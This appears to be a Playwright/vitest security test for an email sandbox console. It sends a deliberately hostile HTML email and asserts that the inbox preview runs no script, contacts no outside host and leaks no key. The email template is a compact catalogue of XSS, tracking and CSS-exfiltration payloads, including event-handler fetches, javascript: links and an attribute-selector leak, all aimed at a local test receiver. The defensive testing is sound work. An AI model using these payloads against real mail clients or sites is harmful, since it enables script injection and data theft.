// A mail that wants to harm whoever looks at it: nothing of it runs, and nobody hears of it.
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { poll, useConsole } from '../support/console.ts'
import { useReceiver } from '../support/receiver.ts'

const enemy = useReceiver()
const bench = useConsole()

/** Whatever is known to run, to send or to load. */
const hostile = (url: string) => `<!doctype html><html manifest="${url}/manifest"><head>
<base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="a=b">
<link rel="stylesheet" href="${url}/style.css"><link rel="icon" href="${url}/icon"><link rel="preload" as="image" href="${url}/pre">
<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">
<style>@import "${url}/a.css"; @import url(${url}/b.css); @\\69mport "${url}/c.css";
@font-face { font-family: f; src: url(${url}/font) } p { font-family: f; color: rgb(9, 8, 7); background: url("${url}/css.png") }
h1 { background: u\\72l(${url}/escaped.png); list-style: image-set("${url}/set.png" 1x); cursor: url(${url}/cursor), auto }
p::after { content: url(${url}/after.png) } input[value^="a"] { background: url(${url}/leak) }</style>
<script>document.title = 'taken'; fetch('${url}/inline')</script><script src="${url}/script.js"></script></head>
<body background="${url}/body.png" onload="fetch('${url}/onload')">
<h1 onclick="fetch('${url}/onclick')">Hello</h1><p>Nothing happened</p>
<img src="${url}/pixel.gif" width="1" height="1" alt=""><img src="x" srcset="${url}/set 1x" onerror="fetch('${url}/onerror')" alt="">
<img src="${url.replace('http:', '')}/relative.gif" alt=""><img src="http:&#47;&#47;${url.slice(7)}/entity.gif" alt="">
<picture><source srcset="${url}/source.png"><img src="${url}/picture.png" alt=""></picture>
<form action="${url}/form" method="post"><input name="a" value="abc" autofocus onfocus="this.form.submit()"><button>Send</button></form>
<input type="image" src="${url}/input.png" alt=""><button formaction="${url}/formaction">Press</button>
<iframe src="${url}/frame"></iframe><iframe srcdoc="<script>parent.fetch('${url}/srcdoc')</script>"></iframe>
<object data="${url}/object"><embed src="${url}/embed"></object><applet code="${url}/applet"></applet>
<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}/svg')"><script>fetch('${url}/svgscript')</script>
<image href="${url}/svg.png" /><use href="${url}/use.svg#a" /><style>@import "${url}/svg.css"</style>
<foreignObject><iframe src="${url}/foreign"></iframe></foreignObject><animate onbegin="fetch('${url}/begin')" attributeName="x" dur="1s" /></svg>
<math><mtext><img src="${url}/math.png" alt=""></mtext></math>
<video src="${url}/video" poster="${url}/poster" autoplay></video><audio src="${url}/audio" autoplay></audio>
<a href="javascript:fetch('${url}/js')">script</a> <a href="java&#10;script:alert(1)">folded</a> <a href="data:text/html,<script>1</script>">data</a>
<details open ontoggle="fetch('${url}/toggle')"><summary>s</summary></details>
<div style="background-image: url('${url}/attr.png'); width: expression(alert(1)); behavior: url(${url}/htc)">styled</div>
<noscript><img src="${url}/noscript.gif" alt=""></noscript><template><img src="${url}/template.gif" alt=""></template>
<textarea></textarea><plain <p title="</style><img src='${url}/broken'>">broken</p>
${'<table><tr><td>'.repeat(2_000)}deep${'</td></tr></table>'.repeat(2_000)}<a href="${url}/link" ping="${url}/ping">link</a><!-- <img src="${url}/comment.png"> `

/**
 * Clicks all over what can be seen of the frame, but for its end, where the link is. By no locator in the frame: those
 * listen there, which a frame without scripts refuses with a line in the console.
 */
async function clickAround(page: Page): Promise<void> {
  const box = await page.locator('iframe').boundingBox()
  if (!box) throw new Error('there is no frame')
  for (let y = 12; y < Math.min(box.height, 400); y += 24)
    for (let x = 12; x < 320; x += 70) await page.mouse.click(box.x + x, box.y + y)
}

async function capture(htmlBody: string) {
  const { sender_id } = await bench.marketing.createEmailSender({ body: { name: 'Shop', email: 'shop@example.com' } })
  const mail = { senderId: String(sender_id), to: 'ana@example.com', subject: 'Hello', htmlBody, textBody: 'Hello' }
  await bench.transactional.sendEmail({ body: mail })
  return (await bench.sandbox.waitForCapturedMessage()).captured_id
}

/** What the enemy was asked for, once a request of our own has come after all that were under way. */
async function asked(): Promise<string[]> {
  const last = `/last-${enemy.requests.length}`
  await fetch(enemy.url + last)
  await enemy.waitFor(({ path }) => path === last)
  return [...new Set(enemy.requests.map(({ path }) => path))].filter((path) => !path.startsWith('/last-')).sort()
}

test('nothing of it runs, and nobody is asked for anything', async () => {
  const id = await capture(hostile(enemy.url))
  const { page, wrongs } = await bench.open(`inbox/${id}`)
  const frame = page.frameLocator('iframe')
  await frame.getByText('Nothing happened').waitFor()
  await frame.getByText('deep').waitFor()
  // Once everything has been loaded, everything that could ask has asked.
  await poll(() => frame.locator('html').evaluate((html) => html.ownerDocument.readyState)).toBe('complete')
  // What it looks like is its own business.
  const color = () =>
    frame
      .locator('p')
      .first()
      .evaluate((p) => getComputedStyle(p).color)
  await poll(color).toBe('rgb(9, 8, 7)')
  for (const view of ['text', 'headers', 'source', 'links', 'facts']) {
    await page.goto(`${bench.origin}/console/inbox/${id}?tab=${view}`)
    await page.getByRole('tabpanel').waitFor()
  }
  expect(await page.title()).toBe('Inbox')
  expect(page.context().pages()).toHaveLength(1)
  expect(await asked()).toEqual([])
  expect(wrongs).toEqual([])

  const clicked = await bench.open(`inbox/${id}`)
  await clicked.page.frameLocator('iframe').getByText('deep').waitFor()
  await clickAround(clicked.page)
  expect(clicked.page.context().pages()).toHaveLength(1)
  expect(await asked()).toEqual([])
  expect(clicked.wrongs).toEqual([])
  await clicked.page.context().close()

  // Its pictures come when the reader wants them, and nothing else does.
  await page.goto(`${bench.origin}/console/inbox/${id}`)
  await page.getByLabel('Load remote images').check()
  await enemy.waitFor(({ path }) => path === '/pixel.gif')
  await frame.locator('html').evaluate((html) => {
    const { readyState } = html.ownerDocument
    if (readyState !== 'complete') throw new Error(`The frame is ${readyState}.`)
  })
  expect((await asked()).filter((path) => !/\.(gif|png)$|^\/(cursor|leak|htc)$/.test(path))).toEqual([])
  expect(enemy.requests.filter(({ headers }) => headers.referer !== undefined || headers.cookie !== undefined)).toEqual(
    [],
  )
  expect(wrongs.filter((wrong) => !wrong.startsWith(`stranger: ${enemy.url}/`))).toEqual([])
  await page.context().close()
})

test('a frame that is made of a text would have the policy of the console, and the key stays in the tab', async () => {
  const { page } = await bench.open('inbox')
  await page.getByRole('heading', { name: 'Inbox', level: 1 }).waitFor()
  const colours = await page.evaluate(async () => {
    const html = '<style>p{color:rgb(1,2,3)}</style><p>a</p>'
    const colourIn = async (frame: HTMLIFrameElement) => {
      const loaded = new Promise((done) => frame.addEventListener('load', done, { once: true }))
      document.body.append(frame)
      await loaded
      const p = frame.contentDocument?.querySelector('p')
      return p ? getComputedStyle(p).color : 'refused'
    }
    const blob = document.createElement('iframe')
    blob.src = URL.createObjectURL(new Blob([html], { type: 'text/html' }))
    const text = document.createElement('iframe')
    let taken = true
    try {
      text.srcdoc = html
    } catch {
      taken = false
    }
    return {
      blob: await Promise.race([colourIn(blob), new Promise((done) => setTimeout(done, 2_000, 'refused'))]),
      taken,
    }
  })
  expect(colours.taken).toBe(false)
  expect(colours.blob).toBe('refused')
  const kept = await page.evaluate(() =>
    [location.hash, document.cookie, JSON.stringify({ ...localStorage })].join(' '),
  )
  expect(kept).not.toContain(bench.key)
  expect(await page.evaluate(() => Object.values({ ...sessionStorage }))).toEqual([bench.key])
  await page.context().close()
})
